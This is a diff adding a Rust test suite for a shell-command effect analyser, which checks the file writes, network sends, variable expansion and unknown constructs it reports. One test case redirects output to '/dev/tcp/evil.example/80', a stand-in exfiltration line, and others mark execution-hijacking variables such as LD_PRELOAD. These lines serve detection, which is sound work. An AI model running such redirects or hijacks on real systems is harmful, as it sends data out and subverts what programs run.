@@ -1,1 +1,289 @@
+use super::testing::{analysis, with_limits};
+use super::{Analysis, SimpleCommand};
+use crate::effect::{Action, CodeOrigin, Coverage, Effect, Mark, Names, Target};
+use crate::syntax::Limits;
+use crate::word::Word;
+use proptest::prelude::*;
 
+fn shown(effect: &Effect) -> String {
+    let target = match &effect.target {
+        Target::Path(path) => match &path.names {
+            Names::Exact(path) => path.clone(),
+            Names::Glob(pattern) => format!("glob {pattern}"),
+            Names::Below(path) => format!("below {path}"),
+            Names::Unknown(_) => "?".to_owned(),
+        },
+        Target::Program(program) => program.name.clone(),
+        Target::Host(host) => host.name.clone().unwrap_or_default(),
+        Target::Text(_) => String::new(),
+    };
+    format!("{:?} {target}", effect.action)
+        .to_lowercase()
+        .trim()
+        .to_owned()
+}
+
+/// All effects but `run`, as text.
+fn effects(source: &str) -> Vec<String> {
+    analysis(source)
+        .effects()
+        .filter(|effect| effect.action != Action::Run)
+        .map(shown)
+        .collect()
+}
+
+/// The commands as text, a `?` for what is not known.
+fn commands(source: &str) -> Vec<String> {
+    let line = |command: &SimpleCommand| {
+        let words = command.words.iter().map(|word| match word {
+            Word::Known(text) => text.clone(),
+            Word::Glob(pattern) => format!("glob:{pattern}"),
+            Word::Below { directory, .. } => format!("below:{directory}"),
+            Word::Partly { prefix, .. } => format!("{prefix}?"),
+            Word::Unknown { .. } => "?".to_owned(),
+        });
+        words.collect::<Vec<_>>().join(" ")
+    };
+    analysis(source)
+        .commands
+        .iter()
+        .map(line)
+        .filter(|line| !line.is_empty())
+        .collect()
+}
+
+fn partial(analysis: &Analysis) -> bool {
+    analysis.coverage == Coverage::Partial
+}
+
+#[test]
+fn redirections_are_effects() {
+    let cases: [(&str, &[&str]); 12] = [
+        ("p >out", &["write /work/out"]),
+        ("p >>/x/out 2>&1", &["write /x/out"]),
+        ("p <in", &["read /work/in"]),
+        ("p <>both", &["read /work/both", "write /work/both"]),
+        ("p &>out", &["write /work/out"]),
+        ("p >&out", &["write /work/out"]),
+        ("p {fd}>out", &["write /work/out"]),
+        ("p >/dev/null 2>/dev/stderr </dev/null", &[]),
+        (
+            "p >/dev/tcp/evil.example/80",
+            &["connect evil.example", "send evil.example"],
+        ),
+        ("{ p; q; } >out", &["write /work/out"]),
+        ("p >$x", &["opaque"]),
+        ("p >~/x", &["write /home/me/x"]),
+    ];
+    for (source, expected) in cases {
+        assert_eq!(effects(source), expected, "{source}");
+    }
+}
+
+#[test]
+fn relative_paths_follow_cd() {
+    let cases: [(&str, &[&str]); 9] = [
+        ("cd sub && p >x", &["write /work/sub/x"]),
+        ("cd sub || exit; p >x", &["write /work/sub/x"]),
+        ("set -e; cd sub; p >x", &["write /work/sub/x"]),
+        // It may fail, and then the next command runs here.
+        ("cd sub; p >x", &["write /work/sub/x", "write /work/x"]),
+        ("(cd sub && p); q >x", &["write /work/x"]),
+        ("cd .. && p >x", &["write /x"]),
+        ("cd && p >x", &["write /home/me/x"]),
+        ("cd \"$x\" && p >x", &["write x"]),
+        ("pushd a && popd && p >x", &["write /work/x"]),
+    ];
+    for (source, expected) in cases {
+        assert_eq!(effects(source), expected, "{source}");
+    }
+}
+
+#[test]
+fn what_is_assigned_is_known_later() {
+    let cases: [(&str, &[&str]); 10] = [
+        ("x=a; p $x", &["p a"]),
+        ("x='a b'; p $x \"$x\"", &["p a b a b"]),
+        ("p $UNKNOWN", &["p ?"]),
+        ("p out-$UNKNOWN", &["p out-?"]),
+        (
+            "for f in *.txt; do p \"$f\" \"${f%.txt}.md\"; done",
+            &["p glob:*.txt glob:*.md"],
+        ),
+        ("for x in a b; do p $x; done", &["p a", "p b"]),
+        ("x=1; q && x=2; p $x", &["q", "p ?"]),
+        ("f() { p \"$2\"; }; f a b", &["f a b", "p b"]),
+        ("x=$(q); p \"$x\"", &["q", "p ?"]),
+        (
+            "set -- a b; shift; p \"$@\"",
+            &["set -- a b", "shift", "p b"],
+        ),
+    ];
+    for (source, expected) in cases {
+        assert_eq!(commands(source), expected, "{source}");
+    }
+}
+
+#[test]
+fn the_environment_can_change_what_runs() {
+    for source in [
+        "LD_PRELOAD=x p",
+        "export BASH_ENV=x; p",
+        "PATH=x:$PATH; p",
+        "GIT_SSH_COMMAND=x p",
+        "read PATH; p",
+    ] {
+        let analysis = analysis(source);
+        assert!(
+            analysis
+                .effects()
+                .any(|effect| effect.marks.contains(&Mark::Environment)),
+            "{source}"
+        );
+        assert!(partial(&analysis), "{source}");
+    }
+    for source in [
+        "LANG=C p",
+        "FOO=x p",
+        "export RUST_LOG=debug; p",
+        "PAGER=cat p",
+        "IFS= read -r x",
+    ] {
+        assert!(!partial(&analysis(source)), "{source}");
+    }
+}
+
+#[test]
+fn programs_by_path() {
+    for source in [
+        "/bin/p",
+        "/usr/bin/p",
+        "/proc/self/root/usr/bin/p",
+        "/bin//p",
+    ] {
+        assert!(!partial(&analysis(source)), "{source}");
+    }
+    for source in ["./p", "/tmp/p", "/usr/bin/../../tmp/p", "../p"] {
+        let analysis = analysis(source);
+        let file = |effect: &Effect| matches!(&effect.target, Target::Program(program) if program.origin == CodeOrigin::File);
+        assert!(
+            analysis.effects().any(file) && partial(&analysis),
+            "{source}"
+        );
+    }
+    assert_eq!(
+        commands("/lib64/ld-linux-x86-64.so.2 /bin/p a"),
+        ["/lib64/ld-linux-x86-64.so.2 /bin/p a", "/bin/p a"]
+    );
+    assert_eq!(commands("busybox p a"), ["busybox p a", "p a"]);
+}
+
+#[test]
+fn what_is_not_known_is_partial() {
+    let sources = [
+        "$x",
+        "$(q)",
+        "eval $x",
+        "eval \"$(q)\"",
+        "source ./x",
+        ". x",
+        "p 'unfinished",
+        "f() { f; }; f",
+        "alias q=p; q",
+        "shopt -s expand_aliases",
+        "trap \"$x\" EXIT",
+        "declare -n x=y",
+        "x=$UNKNOWN; ((x))",
+        "[[ $UNKNOWN -eq 1 ]]",
+        "p \0",
+        "enable -f x y",
+        "*",
+    ];
+    for source in sources {
+        assert!(partial(&analysis(source)), "{source}");
+    }
+}
+
+#[test]
+fn commands_know_who_runs_them() {
+    let analysis = analysis("p $(q $(r))");
+    let parents: Vec<_> = analysis
+        .commands
+        .iter()
+        .map(|command| command.parent)
+        .collect();
+    assert_eq!(parents, [None, Some(0), Some(1)]);
+}
+
+#[test]
+fn flags_say_how_a_command_is_built() {
+    assert!(analysis("p | q").flags.pipe);
+    assert!(analysis("p; q").flags.chain);
+    assert!(analysis("(p)").flags.subshell);
+    assert!(analysis("p >x").flags.redirect);
+    assert!(analysis("p &").flags.background);
+    assert!(analysis("if p; then q; fi").flags.control);
+    assert_eq!(analysis("p a").flags, super::Flags::default());
+}
+
+#[test]
+fn work_is_bounded() {
+    let nested =
+        "for a in {1..60}; do for b in {1..60}; do for c in {1..60}; do p $a$b$c; done; done; done";
+    let analysis = with_limits(nested, Limits::default());
+    assert!(partial(&analysis) && analysis.commands.len() < 10_000);
+    let many = "p;".repeat(100_000);
+    assert!(partial(&with_limits(&many, Limits::default())));
+    assert!(partial(&with_limits(
+        &"{a,b}".repeat(40),
+        Limits::default()
+    )));
+    let doubling: String = (0..40)
+        .map(|number| format!("f{}() {{ f{number}; f{number}; }}; ", number + 1))
+        .collect();
+    assert!(partial(&with_limits(
+        &format!("f0() {{ p; }}; {doubling} f40"),
+        Limits::default()
+    )));
+    let long = format!("x=aaaaaaaa; {} p $x", "x=$x$x; ".repeat(40));
+    assert!(!with_limits(&long, Limits::default()).commands.is_empty());
+}
+
+#[test]
+fn deep_nesting_fits_a_small_stack() {
+    let shapes = [
+        ("(", ")"),
+        ("$(", ")"),
+        ("{ ", ";}"),
+        ("if p; then ", "; fi"),
+        ("p \"$(", ")\""),
+        ("for x in a; do ", "; done"),
+        ("eval \"$(", ")\""),
+    ];
+    std::thread::Builder::new()
+        .stack_size(2 << 20)
+        .spawn(move || {
+            for (open, close) in shapes {
+                for count in [10, 25, 55, 200] {
+                    analysis(&format!("{}p{}", open.repeat(count), close.repeat(count)));
+                }
+            }
+            let mut source = "p".to_owned();
+            for _ in 0..10 {
+                source = format!("eval '{}'", source.replace('\'', "'\\''"));
+            }
+            analysis(&source);
+        })
+        .unwrap()
+        .join()
+        .unwrap();
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(600))]
+
+    #[test]
+    fn any_text_is_analysed_without_panic(source in "([a-z$(){}\"'`;|&<>= \n\\\\*~!\\[\\]#0-9]|p |x=|\\$x|\\$\\(|for x in a; do |done){0,30}") {
+        analysis(&source);
+    }
+}
